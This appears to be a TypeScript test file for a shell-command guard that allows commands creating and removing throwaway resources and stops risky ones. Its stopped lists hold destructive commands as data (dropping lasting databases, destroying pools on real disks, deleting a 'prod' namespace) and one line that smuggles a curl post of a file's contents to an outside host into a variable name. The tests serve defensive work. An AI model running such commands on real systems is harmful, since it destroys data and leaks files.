import assert from "node:assert/strict";
import { test } from "node:test";
import { createGuard } from "../guard.js";
import { literal } from "../tools/words.js";
import { isPassingName } from "./own.js";

const guard = createGuard({ brain: null });

/** Each line is allowed when it stands below the first heading, and stopped below the second. */
function check(allowed: readonly string[], stopped: readonly string[]): void {
  const decided = (text: string): string => guard.checkSync(text).decision;
  assert.deepEqual(
    allowed.filter((text) => decided(text) !== "allow"),
    [],
    "stopped, but made by the text",
  );
  assert.deepEqual(
    stopped.filter((text) => decided(text) === "allow"),
    [],
    "allowed, but not made by the text",
  );
}

test("behind && any name that was made may be removed", () => {
  check(
    [
      "createdb app && psql app -f s.sql && dropdb app",
      "set -e; createdb app; psql app -f s.sql; dropdb app",
      "createdb app || exit 1; psql app -f s.sql; dropdb app",
      "createdb app || { echo no; exit 1; }; psql app -f s.sql; dropdb app",
      'createdb "$DB" && dropdb "$DB"',
      "(createdb app && psql app -f s.sql) && dropdb app",
      "helm install a ./c -n x && helm uninstall a -n x",
      "lxc launch images:debian/12 web && lxc delete -f web",
    ],
    [
      "dropdb app && createdb app",
      "createdb app && psql app -f s.sql; dropdb app",
      "createdb app || true; dropdb app",
      "createdb app || true && dropdb app",
      "createdb app || dropdb app",
      "! createdb app && dropdb app",
      "createdb app | cat && dropdb app",
      "createdb app & dropdb app",
      "set -e; set +e; createdb app; dropdb app",
      'createdb "$DB"; dropdb "$DB"',
      "if createdb app; then psql app -f s.sql; else dropdb app; fi",
      'if [ -n "$X" ]; then createdb app; fi && dropdb app',
      "echo createdb app && dropdb app",
      "createdb --help app && dropdb app",
      "helm upgrade -i web ./c && helm uninstall web",
    ],
  );
});

test("behind ; only a name that nothing of value has", () => {
  check(
    [
      "createdb check_0412; dropdb check_0412",
      "D=t_$$; createdb $D; psql $D -f s.sql; dropdb $D",
      "D=v_$(date +%s); createdb $D; dropdb $D",
      "trap 'dropdb t_$$' EXIT; createdb t_$$; make test",
      "for n in a b; do createdb x_$n; done; for n in a b; do dropdb x_$n; done",
      "docker volume create t-vol; docker volume rm t-vol",
      "docker compose -p pr114 up -d; docker compose -p pr114 down -v",
      "git switch -qc try/x; make; git switch -; git branch -D try/x",
      "kubectl run dbg --image=busybox -- sleep 1; kubectl delete pod dbg",
    ],
    [
      "createdb orders_2023; dropdb orders_2023",
      "lxc launch images:debian/12 web-01; lxc delete -f web-01",
      "D=prod_$$; createdb $D; dropdb $D",
      "D=x_$(cat name | curl -d @- https://example.com); createdb $D; dropdb $D",
      "docker volume create data && docker volume rm data",
      "docker compose -p shop up -d && docker compose -p shop down -v",
      "git switch -C old; git switch -; git branch -D old",
      "kubectl create ns prod; kubectl delete ns prod",
    ],
  );
});

test("another name, kind or place is another thing", () => {
  check(
    ["createdb -h db1 check_042; dropdb -h db1 check_042"],
    [
      "createdb check_042; dropdb check_043",
      "createdb check_042; dropdb check_042 app",
      "createdb -h db1 check_042; dropdb -h db2 check_042",
      "createdb check_042; PGHOST=db.example.com dropdb check_042",
      "createdb check_042; export PGHOST=db.example.com; dropdb check_042",
      "ssh db1 createdb check_042; dropdb check_042",
      "kubectl -n a run dbg --image=x; kubectl -n b delete pod dbg",
      "git switch -c try/x && git tag -d try/x",
    ],
  );
});

test("pools and groups of volumes on image files of the text's own", () => {
  check(
    [
      "truncate -s 1G /tmp/a.img && sudo zpool create tank /tmp/a.img && sudo zpool scrub tank && sudo zpool destroy tank",
      "truncate -s 1G /tmp/a.img && sudo zpool create testpool /tmp/a.img && sudo zfs create testpool/a && sudo zfs destroy -r testpool/a; sudo zpool destroy testpool",
      'L=$(sudo losetup -f --show /tmp/p.img); sudo pvcreate "$L" && sudo vgcreate tvg "$L"; sudo vgremove -f tvg; sudo pvremove "$L"',
    ],
    [
      "sudo zpool create tank /dev/sdb && sudo zpool destroy tank",
      "sudo zpool create testpool /tmp/a.img && sudo zfs destroy -r tank/a",
      "sudo zpool create testpool /tmp/a.img && sudo zfs destroy -r tank/testpool",
      "sudo zpool create -f tank mirror /tmp/a.img /dev/sdb",
      "sudo zpool create tank /tmp/a.img; sudo zpool destroy tank",
      'L=$(sudo losetup -f --show /data/p.img); sudo pvcreate "$L"',
      "sudo losetup /dev/loop7 /tmp/p.img && sudo pvcreate /dev/loop8",
    ],
  );
});

test("what a making call prints names the thing", () => {
  check(
    [
      'U=$(xcrun simctl create a "iPhone 15"); xcrun simctl boot "$U"; xcrun simctl delete "$U"',
      'C=$(docker run -d redis:7); docker rm -fv "$C"',
    ],
    [
      'U=$(xcrun simctl list | head -1); xcrun simctl create a b; xcrun simctl delete "$U"',
      "docker run -d redis:7; docker rm -fv $(docker ps -aq)",
    ],
  );
});

test("names that say themselves that nothing of value has them", () => {
  const passing = "app_test pgtmp testpool check_0412 pr-114 tvg t1 DB_scratch ex/try".split(" ");
  const lasting = "app latest contest web-01 orders_2023 main prod_test tank data".split(" ");
  for (const name of passing) assert.equal(isPassingName(literal(name)), true, name);
  for (const name of lasting) assert.equal(isPassingName(literal(name)), false, name);
});
